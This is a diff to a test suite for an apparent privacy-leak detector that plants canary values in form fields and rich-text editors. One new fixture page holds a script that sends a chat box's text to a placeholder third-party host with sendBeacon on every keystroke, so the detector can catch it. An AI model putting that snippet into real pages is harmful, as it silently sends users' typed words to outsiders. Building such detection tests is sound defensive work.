@@ -47,11 +47,29 @@ async def test_every_kind_of_field_gets_its_own_value_by_real_keys(site: Site, l
         "<input name=card_number><input autocomplete=one-time-code><input name=iban>",
         "<input name=filled value=kept><input name=off disabled><input name=fixed readonly>",
         "<input name=trap style='position:absolute;left:-999em'><input name=gone style='display:none'>",
+        "<div contenteditable>written before</div><div contenteditable=false style='height:2em'></div>",
+        "<form><div contenteditable style='height:2em'></div><input type=password></form>",
         "<input name=honey tabindex=-1><input type=number><input name=age inputmode=numeric><input type=hidden>",
     ],
 )
 async def test_secrets_payments_and_what_no_visitor_sees_are_left_alone(site: Site, look: Look, body: str) -> None:
     assert planted(await look(site.page(body))) == {}
+
+
+async def test_an_editor_is_written_in_like_a_field(site: Site, look: Look) -> None:
+    """Chats and comments are often no field, but an element that the page lets be written in."""
+    records = await look(
+        site.page(
+            "<div id=chat contenteditable role=textbox data-placeholder='Your message' style='height:3em'>"
+            "<p contenteditable></p></div><script>"
+            f"chat.addEventListener('input', () => navigator.sendBeacon('https://{THIRD}/said', chat.innerText))"
+            "</script>"
+        )
+    )
+    [found] = records.of(CanaryPlanted)
+    assert (found.data, found.field, found.typed) == ("text", "editor “Your message”", found.value)
+    said = [request.post_data for request in records.of(Request) if request.url.endswith("/said")]
+    assert said[-1] == found.value
 
 
 async def test_what_is_read_key_by_key_on_leaving_the_field_and_after_a_pause_is_caught(site: Site, look: Look) -> None:
